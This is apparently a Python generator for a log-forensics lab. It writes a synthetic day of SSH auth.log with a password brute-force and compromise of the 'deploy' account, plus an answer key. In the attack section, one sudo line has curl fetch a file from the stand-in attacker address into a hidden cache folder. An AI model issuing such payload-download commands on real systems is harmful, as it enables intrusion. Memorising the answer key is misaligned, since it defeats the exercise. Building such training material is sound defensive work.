"""Write a realistic /var/log/auth.log of one day with an SSH break-in, and the answers.

Deterministic (fixed seed). Background: cron sessions, staff logging in with keys
and passwords from the office network, scattered scanners trying common names.
The attack: one address tries hundreds of passwords, then logs in as `deploy`
and uses sudo to fetch a payload into a hidden folder, DROP_DIR, that only the
sudo lines name. Like real sshd, a name that exists on the server (KNOWN_USERS)
is never an "invalid user"; like real sudo, sudo lines carry no process id.
Usage: make_auth_log.py LOG_PATH ANSWER_DIR
"""

import random
import sys
from datetime import datetime, timedelta
from pathlib import Path

HOST = "web01"
ATTACKER_IP = "203.0.113.47"
VICTIM = "deploy"
OFFICE = ["10.20.0.11", "10.20.0.15", "10.20.0.23"]
SCANNERS = ["198.51.100.23", "198.51.100.177", "203.0.113.201", "192.0.2.150"]
NAMES = ["root", "admin", "test", "oracle", "ubuntu", "user", "git", "postgres", "pi", "ftp"]
PASSWORDS_TRIED_FOR = ["root", "admin", "deploy", "ubuntu", "deploy", "deploy", "www"]
ALICE_KEY = "q5Zb1oYFz3n8mJc0w2LrT7vKxS9dH4gUaE6pN1yRjQo"
KNOWN_USERS = {"root", "deploy", "alice"}  # accounts of the server (the lab image has them)
DROP_DIR = "/var/cache/debconf/.upd"  # the lab's flag path is DROP_DIR/update.txt


class AuthLog:
    """Lines are grouped by process; process ids are handed out in time order on write."""

    def __init__(self, rng: random.Random):
        self.rng = rng
        self.lines: list[tuple[datetime, int, str, str]] = []
        self.groups = 0

    def add(self, moment: datetime, program: str, message: str, group: int | None = None) -> int:
        if group is None:
            self.groups += 1
            group = self.groups
        self.lines.append((moment, group, program, message))
        return group

    def ssh_failure(self, moment: datetime, user: str, ip: str) -> None:
        port = self.rng.randint(32768, 60999)
        known = user in KNOWN_USERS
        invalid = "" if known else "invalid user "
        if not known:
            group = self.add(moment, "sshd", f"Invalid user {user} from {ip} port {port}")
        else:
            group = None
        self.add(
            moment, "sshd", f"Failed password for {invalid}{user} from {ip} port {port} ssh2", group
        )

    def ssh_login(self, moment: datetime, user: str, ip: str, method: str = "password") -> int:
        port = self.rng.randint(32768, 60999)
        message = f"Accepted {method} for {user} from {ip} port {port} ssh2"
        if method == "publickey":  # sshd names the key by its fingerprint
            message += f": ED25519 SHA256:{ALICE_KEY}"
        group = self.add(moment, "sshd", message)
        uid = {"deploy": 1001, "alice": 1002}.get(user, 0)
        self.add(
            moment,
            "sshd",
            f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)",
            group,
        )
        return group

    def sudo(self, moment: datetime, user: str, pwd: str, command: str) -> None:
        group = self.add(
            moment, "sudo", f"  {user} : TTY=pts/0 ; PWD={pwd} ; USER=root ; COMMAND={command}"
        )
        self.add(
            moment,
            "sudo",
            "pam_unix(sudo:session): session opened for user root(uid=0) "
            f"by {user}(uid={1001 if user == 'deploy' else 1002})",
            group,
        )

    def write(self, path: str) -> None:
        pids: dict[int, int] = {}
        next_pid = 20000
        out = []
        for moment, group, program, message in sorted(self.lines, key=lambda item: item[:2]):
            if group not in pids:
                next_pid += self.rng.randint(1, 40)
                pids[group] = next_pid
            tag = program if program == "sudo" else f"{program}[{pids[group]}]"  # sudo: no pid
            out.append(f"{moment:%b %e %H:%M:%S} {HOST} {tag}: {message}\n")
        Path(path).write_text("".join(out))


def background(log: AuthLog, day: datetime) -> None:
    rng = log.rng
    for minute in range(0, 24 * 60, 5):
        moment = day + timedelta(minutes=minute, seconds=1)
        group = log.add(
            moment, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
        )
        log.add(
            moment + timedelta(seconds=1),
            "CRON",
            "pam_unix(cron:session): session closed for user root",
            group,
        )
    for hour in (8, 9, 13, 16):
        moment = day + timedelta(hours=hour, minutes=rng.randint(0, 59))
        log.ssh_login(moment, "alice", rng.choice(OFFICE), "publickey")
    log.sudo(
        day + timedelta(hours=9, minutes=12),
        "alice",
        "/home/alice",
        "/usr/bin/systemctl restart nginx",
    )
    for ip in SCANNERS:
        start = day + timedelta(hours=rng.randint(0, 23), minutes=rng.randint(0, 59))
        for attempt in range(rng.randint(6, 25)):
            log.ssh_failure(start + timedelta(seconds=attempt * 3), rng.choice(NAMES), ip)
    # A tired colleague mistypes a password once.
    log.ssh_failure(day + timedelta(hours=10, minutes=3), "deploy", OFFICE[1])
    log.ssh_login(day + timedelta(hours=10, minutes=4), "deploy", OFFICE[1])


def attack(log: AuthLog, day: datetime) -> None:
    rng = log.rng
    moment = day + timedelta(hours=2, minutes=17)
    for _ in range(340):
        moment += timedelta(seconds=rng.randint(1, 4))
        user = rng.choice(PASSWORDS_TRIED_FOR + NAMES)
        log.ssh_failure(moment, user, ATTACKER_IP)
    moment += timedelta(seconds=3)
    log.ssh_login(moment, VICTIM, ATTACKER_IP)
    home = f"/home/{VICTIM}"
    log.sudo(moment + timedelta(minutes=1), VICTIM, home, "/usr/bin/id")
    log.sudo(moment + timedelta(minutes=2), VICTIM, home, f"/usr/bin/mkdir -p {DROP_DIR}")
    log.sudo(
        moment + timedelta(minutes=3),
        VICTIM,
        home,
        f"/usr/bin/curl -s -o {DROP_DIR}/update.txt http://{ATTACKER_IP}/u.txt",
    )
    log.sudo(moment + timedelta(minutes=4), VICTIM, home, f"/usr/bin/chmod 755 {DROP_DIR}")


def main(log_path: str, answer_dir: str) -> None:
    log = AuthLog(random.Random(4242))
    day = datetime(2024, 3, 4)
    background(log, day)
    attack(log, day)
    log.write(log_path)
    answers = Path(answer_dir)
    (answers / "attacker-ip").write_text(ATTACKER_IP + "\n")
    (answers / "compromised-user").write_text(VICTIM + "\n")


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
